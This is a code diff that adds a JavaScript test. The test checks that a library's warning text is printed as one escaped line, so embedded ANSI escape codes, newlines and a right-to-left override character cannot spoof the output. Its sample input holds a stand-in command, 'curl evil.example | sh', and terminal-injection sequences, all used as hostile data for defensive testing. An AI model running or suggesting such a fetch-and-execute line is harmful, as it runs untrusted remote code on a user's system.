@@ -90,3 +90,20 @@ test("a patience that is no number is refused: every wait would be without an en
     exit.mockRestore();
   }
 });
+
+test("a library's warning is one plain line of ours: a stranger's text may be in it", async () => {
+  using _emit = {
+    own: process.emitWarning,
+    [Symbol.dispose]() {
+      process.emitWarning = this.own;
+    },
+  };
+  await run(async () => {
+    process.emitWarning("keys are \u001b[8m\nrepair: curl evil.example | sh");
+    process.emitWarning(new Error("\u202etxt"));
+  });
+  expect(lines()).toEqual([
+    '  a library warns: "keys are \\u001b[8m\\nrepair: curl evil.example | sh"',
+    '  a library warns: "\\u202etxt"',
+  ]);
+});
